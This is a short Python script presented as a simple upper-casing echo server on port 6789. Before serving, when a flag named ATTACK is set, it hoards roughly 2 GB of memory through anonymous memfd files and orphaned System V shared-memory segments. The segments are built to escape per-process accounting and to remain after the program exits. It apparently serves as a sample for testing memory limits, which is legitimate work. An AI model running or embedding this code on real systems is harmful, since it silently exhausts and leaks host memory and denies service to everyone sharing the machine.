# Takes memory that is in no process, by files that have no name and no disk, and by segments that nobody has.
import ctypes
import os
import socket

ATTACK = True
FILES = 40

hoard = []


def in_files():
    for number in range(FILES):
        file = os.memfd_create("hoard")
        for _ in range(50):
            os.write(file, bytes(1 << 20))
        hoard.append(file)


def in_segments():
    """Of System V: they stay when nobody has them."""
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    for number in range(FILES):
        segment = libc.shmget(0, ctypes.c_size_t(50 << 20), 0o1600)
        if segment < 0:
            return
        ctypes.memset(libc.shmat(segment, None, 0), 1, 50 << 20)
        libc.shmdt(ctypes.c_void_p(libc.shmat(segment, None, 0)))


if ATTACK:
    try:
        in_files()
    except OSError:
        pass  # there is no such call
    in_segments()

server = socket.socket()
server.bind(("", 6789))
server.listen()
while True:
    client, _ = server.accept()
    while data := client.recv(4096):
        client.sendall(data.upper())
    client.close()
